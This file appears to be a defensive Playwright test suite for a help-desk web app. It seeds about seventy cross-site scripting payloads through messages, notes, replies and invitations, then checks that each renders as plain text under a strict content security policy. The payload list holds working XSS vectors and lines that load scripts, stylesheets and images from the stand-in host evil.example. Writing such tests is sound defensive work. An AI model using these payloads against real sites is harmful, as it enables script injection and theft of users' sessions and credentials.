import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { launchChromium } from '../../support/chromium.ts';
import { openDesk } from '../../support/desk-page.ts';
import type { BuiltDesk, DeskSite } from '../../support/desk-site.ts';
import { buildDesk, password, startDeskSite } from '../../support/desk-site.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let built: BuiltDesk;
let site: DeskSite;
let browser: Browser;

beforeAll(async () => {
  built = await buildDesk();
  [site, browser] = await Promise.all([startDeskSite(built.folder), launchChromium()]);
});

afterAll(async () => {
  await browser.close();
  await site.stop();
  await built.remove();
});

/** Ways into a page. Each calls `hit()`, or asks another address for something. */
const payloads: readonly string[] = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script src="https://evil.example/a.js"></script>',
  '<script src=//evil.example/a.js></script>',
  '<script type="module">hit()</script>',
  '<script>hit()//',
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</style><script>hit()</script>',
  '<!--><script>hit()</script>-->',
  '<![CDATA[<script>hit()</script>]]>',
  '<img src=x onerror=hit()>',
  '<img src="x" onerror="hit()">',
  '<IMG SRC=x OnErRoR=hit()>',
  '<img/src=x/onerror=hit()>',
  '<img src=x onerror\n=hit()>',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x">',
  '<image href="https://evil.example/a.png">',
  '<svg onload=hit()>',
  '<svg/onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  '<svg><a href="javascript:hit()"><text>x</text></a></svg>',
  '<math><mtext></p><script>hit()</script>',
  '<body onload=hit()>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="https://evil.example/a.swf">',
  '<video src="https://evil.example/a.mp4" autoplay></video>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()></audio>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<link rel="preload" as="script" href="https://evil.example/a.js">',
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>*{background:url(https://evil.example/a.png)}</style>',
  '<div style="background:url(https://evil.example/a.png)">x</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=hit()></form>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()></select>',
  '<textarea autofocus onfocus=hit()></textarea>',
  '<details open ontoggle=hit()>x</details>',
  '<marquee onstart=hit()>x</marquee>',
  '<a href="javascript:hit()">press</a>',
  '<a href="https://evil.example/" ping="https://evil.example/p">press</a>',
  '<button popovertarget=x onclick=hit()>press</button>',
  '<template><script>hit()</script></template>',
  '<x-y onanimationstart=hit() style="animation:a 1s">',
  '[press](javascript:hit())',
  '[press](data:text/html,<script>hit()</script>)',
  '![x](https://evil.example/pixel.gif)',
  '**<img src=x onerror=hit()>**',
  'javascript:hit()',
  'data:text/html,<script>hit()</script>',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '$t(fault.unknown) {{name}} $t(hit)',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '\u003cscript\u003ehit()\u003c/script\u003e',
  '＜script＞hit()＜/script＞',
  '\u202e<script>hit()</script>',
  '{"__html":"<script>hit()</script>"}',
];

const outOfPlace =
  'script:not([src]), img, iframe, object, embed, video, audio, link:not([href^="/"]):not([rel="icon"]), base, meta[http-equiv], #desk style';

test('nothing that people or mentors write becomes more than text', async () => {
  expect(payloads.length).toBeGreaterThanOrEqual(60);
  const administrator = await site.employ('<img src=x onerror=hit()>', 'administrator');
  const id = await site.asks('writer', payloads[0] ?? '', {
    topic: '<script>hit()</script>',
    country: '<b>',
    reason: payloads.join('\n'),
  });
  for (const payload of payloads) await site.hears('writer', payload, { replies: [payload] });
  const { version } = (await site.inside.desk.open(administrator.mentor, id)).handoff;
  await site.inside.desk.claim(administrator.mentor, id, version);
  for (const [index, payload] of payloads.entries()) {
    await site.inside.desk.note(administrator.mentor, id, payload);
    await site.inside.desk.answer(administrator.mentor, id, payload, `k${String(index)}`);
    await site.inside.people.invite(payload.slice(0, 80), 'mentor', []);
  }
  for (const [index, payload] of payloads.slice(0, 20).entries())
    await site.asks(`asker${String(index)}`, payload, { language: 'xx', topic: payload });

  const { page, context, strays, close } = await openDesk(browser, site, { session: administrator });
  const told: string[] = [];
  await page.exposeFunction('hit', () => told.push('executed'));
  await page.exposeFunction('violated', (what: string) => told.push(what));
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => told.push('dialog')));
  await context.addInitScript(
    `addEventListener('securitypolicyviolation', (event) => violated(event.violatedDirective + ' ' + event.blockedURI))`,
  );
  await page.reload();
  await page.locator('.queue-row').nth(20).waitFor();
  expect(await page.locator(outOfPlace).count()).toBe(0);

  await page.goto(`${site.url}/desk#/c/${id}`);
  await page
    .locator('.message.note')
    .nth(payloads.length - 1)
    .waitFor();
  const said = await page.locator('.message.contact .said').allTextContents();
  expect(said).toEqual(expect.arrayContaining([...payloads]));
  expect(await page.locator('.message.note .said').allTextContents()).toEqual(payloads);
  expect(await page.locator('.message.mentor .said').allTextContents()).toEqual(payloads);
  expect(await page.locator('.person blockquote').textContent()).toBe(payloads.join('\n'));
  expect(await page.locator('#desk a[href^="javascript"], #desk a[href^="data"], #desk [onerror]').count()).toBe(0);
  expect(await page.locator(outOfPlace).count()).toBe(0);

  await page.goto(`${site.url}/desk#/people`);
  await page.locator('.people-name').nth(60).waitFor();
  expect(await page.locator(outOfPlace).count()).toBe(0);
  for (const payload of payloads.slice(0, 12)) {
    await page.goto(`${site.url}/desk/join#${encodeURIComponent(payload)}`);
    await page.getByText('This link does not open').waitFor();
  }
  expect(strays).toEqual([]);
  expect(told).toEqual([]);
  await close();
});

test('the page forbids what no message should ever do', async () => {
  const response = await fetch(`${site.url}/desk`);
  const policy = response.headers.get('content-security-policy') ?? '';
  expect(policy).not.toContain('unsafe');
  for (const rule of [
    "default-src 'none'",
    "script-src 'self'",
    "connect-src 'self'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
  ]) {
    expect(policy).toContain(rule);
  }
  const { page, close } = await openDesk(browser, site, {});
  await page.getByLabel('Password').fill(password);
  const refused = await page.evaluate(
    `(() => { try { document.body.innerHTML = '<p>markup</p>'; return 'written'; } catch { return 'refused'; } })()`,
  );
  expect(refused).toBe('refused');
  await close();
});
